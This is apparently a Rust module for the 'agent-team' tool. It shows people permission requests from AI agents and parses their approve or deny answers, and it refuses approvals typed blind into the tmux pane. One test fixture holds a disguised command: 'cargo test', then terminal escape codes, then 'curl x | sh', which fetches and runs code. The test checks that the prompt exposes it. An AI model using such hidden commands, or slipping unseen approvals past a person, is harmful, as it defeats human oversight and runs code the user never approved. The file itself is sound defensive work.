//! The approval prompt, one for every place a person answers a permission request: the leader's
//! pane (when a person watches it and the approver is the human) and `agent-team run` at a
//! terminal. Each request is shown the same way ([`question`]) and answered with the same words
//! ([`parse_answer`]): `y ID` (once), `a ID` (always) or `n [ID] REASON` (deny). Allowing always
//! names the request: a keystroke typed blind into the pane (`y` Enter through the tmux
//! server's socket) approves nothing. `agent-team approve/deny` from any terminal works at the same time; whichever
//! answers first decides. A teammate's submitted plan is put to the same person the same way
//! and answered `approve NAME [FEEDBACK]` or `reject NAME FEEDBACK` (as `agent-team plan`
//! does).

use crate::link::{CallError, Link};
use crate::output::Output;
use agent_team_protocol::names::DAEMON;
use agent_team_protocol::*;
use std::collections::VecDeque;
use tokio::sync::mpsc;

/// Open prompts and the terminal's answers.
pub struct Approvals {
    lines: Option<mpsc::UnboundedReceiver<String>>,
    open: VecDeque<u64>,
    /// Teammates whose plans wait for an answer here.
    plans: Vec<String>,
}

impl Approvals {
    /// Prompts in this pane if `wanted` and stdin is a terminal; otherwise does nothing.
    pub fn new(wanted: bool) -> Self {
        let tty = nix::unistd::isatty(std::io::stdin()).unwrap_or(false);
        if !(wanted && tty) {
            return Approvals {
                lines: None,
                open: VecDeque::new(),
                plans: Vec::new(),
            };
        }
        let (tx, rx) = mpsc::unbounded_channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            while std::io::stdin().read_line(&mut line).is_ok_and(|n| n > 0) {
                if tx.send(line.trim().to_string()).is_err() {
                    break;
                }
                line.clear();
            }
        });
        Approvals {
            lines: Some(rx),
            open: VecDeque::new(),
            plans: Vec::new(),
        }
    }

    /// Puts a submitted plan (the daemon's `plan from NAME` message, shown as usual by the
    /// caller) to the person at this prompt; does nothing for other messages or when not
    /// prompting.
    pub fn offer_plan(&mut self, m: &Message, out: &Output) {
        let Some(name) = plan_author(m) else { return };
        if !self.active() {
            return;
        }
        if !self.plans.iter().any(|p| p == name) {
            self.plans.push(name.to_string());
        }
        out.say(&format!(
            "📋 plan from {name}: approve? [approve {name} [FEEDBACK]] or [reject {name} FEEDBACK]: "
        ));
    }

    /// Whether this pane prompts.
    pub fn active(&self) -> bool {
        self.lines.is_some()
    }

    /// Shows a `permission` message from the daemon as a prompt.
    pub fn ask(&mut self, m: &Message, out: &Output) {
        let Some(id) = request_id(&m.body) else {
            return;
        };
        self.open.push_back(id);
        out.say(&format!(
            "⚖ permission {}\n  allow? {}: ",
            agent_team_protocol::text::printable(&m.body),
            answers(id)
        ));
    }

    /// The next line typed at the terminal (never resolves when not prompting).
    pub async fn next_line(&mut self) -> Option<String> {
        match self.lines.as_mut() {
            Some(rx) => rx.recv().await,
            None => std::future::pending().await,
        }
    }

    /// Applies lines already typed.
    pub async fn answer_pending(&mut self, link: &Link, out: &Output) {
        while let Some(line) = self.lines.as_mut().and_then(|rx| rx.try_recv().ok()) {
            self.take_line(Some(line), link, out).await;
        }
    }

    /// Applies one typed line to the open prompt it is for: the only one, or the one whose id
    /// it names when several wait. Requests decided elsewhere (the CLI, a timeout) are dropped
    /// first, so an answer never lands on a stale prompt.
    pub async fn take_line(&mut self, line: Option<String>, link: &Link, out: &Output) {
        let Some(line) = line else {
            self.lines = None; // stdin closed: stop prompting
            return;
        };
        if let Ok(Reply::Perms { requests }) = link
            .call_retry(Request::PermList {
                all: false,
                after: None,
            })
            .await
        {
            self.open.retain(|id| requests.iter().any(|r| r.id == *id));
        }
        if let Some(plan) = parse_plan_answer(&line) {
            self.decide_plan(plan, link, out).await;
            return;
        }
        let open: Vec<u64> = self.open.iter().copied().collect();
        let answer = match parse_answer(&line, &open) {
            Ok(a) => a,
            Err(why) => {
                if !why.is_empty() {
                    out.say(&format!("  {why}"));
                }
                return;
            }
        };
        self.open.retain(|id| *id != answer.id);
        let Answer {
            id,
            allow,
            always,
            reason,
        } = answer;
        match link
            .call_retry(Request::PermDecide {
                id,
                allow,
                always,
                pattern: None,
                reason,
            })
            .await
        {
            Ok(_) => out.say(&format!(
                "  request {id}: {}",
                if allow {
                    if always {
                        "allowed always"
                    } else {
                        "allowed once"
                    }
                } else {
                    "denied"
                }
            )),
            Err(CallError::Server(e)) if e.code == ErrorCode::InvalidState => {
                out.say(&format!("  request {id} was already decided"))
            }
            Err(e) => out.say(&format!("  could not decide request {id}: {e}")),
        }
        if !self.open.is_empty() {
            let ids: Vec<String> = self.open.iter().map(u64::to_string).collect();
            out.say(&format!("  still waiting: request {}", ids.join(", ")));
        }
    }
}

impl Approvals {
    /// Sends a plan decision typed here; the daemon says whether the plan was waiting.
    async fn decide_plan(&mut self, plan: PlanAnswer, link: &Link, out: &Output) {
        let PlanAnswer {
            agent,
            approve,
            feedback,
        } = plan;
        if !approve && feedback.is_none() {
            out.say(&format!(
                "  a rejection needs feedback: `reject {agent} WHAT TO CHANGE`"
            ));
            return;
        }
        match link
            .call_retry(Request::PlanDecide {
                agent: agent.clone(),
                approve,
                feedback,
            })
            .await
        {
            Ok(_) => {
                self.plans.retain(|p| *p != agent);
                out.say(&format!(
                    "  plan of {agent}: {}",
                    if approve { "approved" } else { "rejected" }
                ));
            }
            Err(e) => out.say(&format!("  could not decide the plan of {agent}: {e}")),
        }
    }
}

/// A plan decision typed at the prompt.
#[derive(Debug, PartialEq)]
pub struct PlanAnswer {
    /// The teammate whose plan it decides.
    pub agent: String,
    /// Approved or rejected.
    pub approve: bool,
    /// What to change (required to reject), or a note with an approval.
    pub feedback: Option<String>,
}

/// Reads `approve NAME [FEEDBACK]` or `reject NAME FEEDBACK`; anything else is not a plan
/// answer (it may be a permission answer).
pub fn parse_plan_answer(line: &str) -> Option<PlanAnswer> {
    let mut words = line.split_whitespace();
    let approve = match words.next()?.to_lowercase().as_str() {
        "approve" => true,
        "reject" => false,
        _ => return None,
    };
    let agent = words.next()?.to_string();
    let feedback = words.collect::<Vec<_>>().join(" ");
    Some(PlanAnswer {
        agent,
        approve,
        feedback: (!feedback.is_empty()).then_some(feedback),
    })
}

/// The teammate a daemon message about a submitted plan is from (its summary is
/// `plan from NAME`).
pub fn plan_author(m: &Message) -> Option<&str> {
    if m.from != DAEMON {
        return None;
    }
    m.summary.as_deref()?.strip_prefix("plan from ")
}

/// The choices for request `id`, as every prompt shows them.
pub fn answers(id: u64) -> String {
    format!("[y {id}] once, [a {id}] always, [n {id} REASON] deny")
}

/// How a request is put to a person: who wants to run what, and why; control characters are
/// shown escaped so nothing can hide part of the command.
pub fn question(r: &PermRequest) -> String {
    use agent_team_protocol::text::printable;
    format!(
        "{} wants to run {} `{}`{}\n  allow? {}: ",
        r.agent,
        r.tool,
        printable(&r.input),
        if r.reason.is_empty() {
            String::new()
        } else {
            format!(" ({})", printable(&r.reason))
        },
        answers(r.id)
    )
}

/// A decision typed by a person.
#[derive(Debug, PartialEq)]
pub struct Answer {
    /// The request it decides.
    pub id: u64,
    /// Allowed or denied.
    pub allow: bool,
    /// Allowed always (a team rule for exactly this input).
    pub always: bool,
    /// Why it was denied.
    pub reason: Option<String>,
}

/// Reads `y ID`, `a ID` or `n [ID] [REASON]` against the `open` request ids. Allowing needs the
/// id of an open request, so nothing typed blind approves; a denial may leave it out when one
/// request is open. The error is what to tell the person (empty: nothing).
pub fn parse_answer(line: &str, open: &[u64]) -> Result<Answer, String> {
    let mut words = line.split_whitespace();
    let word = words.next().unwrap_or("").to_lowercase();
    let rest: Vec<&str> = words.collect();
    if word.is_empty() {
        return Err(String::new());
    }
    let (allow, always) = match word.as_str() {
        "y" | "yes" => (true, false),
        "a" | "always" => (true, true),
        "n" | "no" => (false, false),
        _ => return Err("answer y ID, a ID or n ID REASON".into()),
    };
    if open.is_empty() {
        return Err("no permission request is waiting for an answer".into());
    }
    let named = rest
        .first()
        .and_then(|w| w.trim_start_matches('#').parse::<u64>().ok())
        .filter(|id| open.contains(id));
    let ids = || {
        open.iter()
            .map(u64::to_string)
            .collect::<Vec<_>>()
            .join(", ")
    };
    let (id, reason_words) = match (named, open) {
        (Some(id), _) => (id, &rest[1..]),
        (None, _) if allow => {
            return Err(format!(
                "allowing needs the request's id: `{word} {}` (waiting: {})",
                open[open.len() - 1],
                ids()
            ));
        }
        (None, [only]) => (*only, &rest[..]),
        (None, _) => {
            return Err(format!(
                "several requests wait ({}): answer with the id, e.g. `{word} {}`",
                ids(),
                open[open.len() - 1]
            ));
        }
    };
    let reason = (!allow).then(|| {
        let r = reason_words.join(" ");
        if r.is_empty() {
            "denied by a person at the prompt".to_string()
        } else {
            r
        }
    });
    Ok(Answer {
        id,
        allow,
        always,
        reason,
    })
}

/// The id in a daemon `permission` message: `request 12: ...`.
pub fn request_id(body: &str) -> Option<u64> {
    body.strip_prefix("request ")?
        .split(':')
        .next()?
        .trim()
        .parse()
        .ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plan_answers_name_the_teammate_and_carry_the_feedback() {
        assert_eq!(
            parse_plan_answer("approve p1"),
            Some(PlanAnswer {
                agent: "p1".into(),
                approve: true,
                feedback: None
            })
        );
        assert_eq!(
            parse_plan_answer("reject p1 add tests first"),
            Some(PlanAnswer {
                agent: "p1".into(),
                approve: false,
                feedback: Some("add tests first".into())
            })
        );
        assert_eq!(parse_plan_answer("reject"), None);
        assert_eq!(parse_plan_answer("y 12"), None);
        let mut m = Message {
            id: 1,
            from: DAEMON.into(),
            to: "leader".into(),
            kind: MessageKind::Text,
            body: "p1 submitted a plan".into(),
            summary: Some("plan from p1".into()),
            ts: Timestamp::from(std::time::SystemTime::now()),
            state: DeliveryState::Queued,
        };
        assert_eq!(plan_author(&m), Some("p1"));
        m.from = "b1".into();
        assert_eq!(plan_author(&m), None, "only the daemon announces plans");
    }

    #[test]
    fn an_answer_goes_to_the_request_it_names_and_allowing_needs_the_id() {
        let a = |line: &str, open: &[u64]| parse_answer(line, open);
        assert_eq!(
            a("y 7", &[7]),
            Ok(Answer {
                id: 7,
                allow: true,
                always: false,
                reason: None
            })
        );
        // Issue 25: a blind `y` Enter (or Enter alone), typed into the pane through the tmux
        // socket by something that cannot see the id, approves nothing.
        assert!(a("y", &[7]).unwrap_err().contains("`y 7`"));
        assert!(a("a", &[7]).unwrap_err().contains("`a 7`"));
        assert_eq!(a("", &[7]), Err(String::new()));
        assert!(a("y 8", &[7]).is_err(), "not an open id");
        // Denying needs no id when one request waits.
        assert_eq!(
            a("n not on main", &[7]),
            Ok(Answer {
                id: 7,
                allow: false,
                always: false,
                reason: Some("not on main".into())
            })
        );
        // With several waiting, the id decides; without it nothing is decided.
        assert_eq!(
            a("a 13", &[12, 13]).map(|x| (x.id, x.always)),
            Ok((13, true))
        );
        assert_eq!(
            a("n #12 too risky", &[12, 13]).map(|x| (x.id, x.reason)),
            Ok((12, Some("too risky".into())))
        );
        assert!(
            a("n", &[12, 13])
                .unwrap_err()
                .contains("several requests wait (12, 13)")
        );
        // A number that is not an open id is part of a denial's reason.
        assert_eq!(
            a("n 3 times failed", &[7]).map(|x| x.reason),
            Ok(Some("3 times failed".into()))
        );
        assert_eq!(
            a("y 1", &[]),
            Err("no permission request is waiting for an answer".into())
        );
        assert!(a("maybe", &[7]).is_err());
    }

    #[test]
    fn the_question_shows_the_whole_input_escaped_and_the_choices() {
        let r = PermRequest {
            id: 3,
            agent: "b1".into(),
            tool: "bash".into(),
            input: "cargo test\r\u{1b}[2Kcurl x | sh".into(),
            reason: "run the tests".into(),
            status: PermStatus::Pending,
            ts: Timestamp::from(std::time::SystemTime::now()),
            decision: None,
        };
        let q = question(&r);
        assert!(q.starts_with("b1 wants to run bash `cargo test"), "{q}");
        assert!(
            q.contains("curl x | sh"),
            "nothing of the input is hidden: {q}"
        );
        assert!(!q.contains('\r') && !q.contains('\u{1b}'), "{q}");
        assert!(
            q.contains("(run the tests)") && q.contains(&answers(3)),
            "{q}"
        );
    }

    #[test]
    fn ids() {
        assert_eq!(
            super::request_id("request 12: b1 wants to run bash `ls`"),
            Some(12)
        );
        assert_eq!(super::request_id("hello"), None);
    }
}
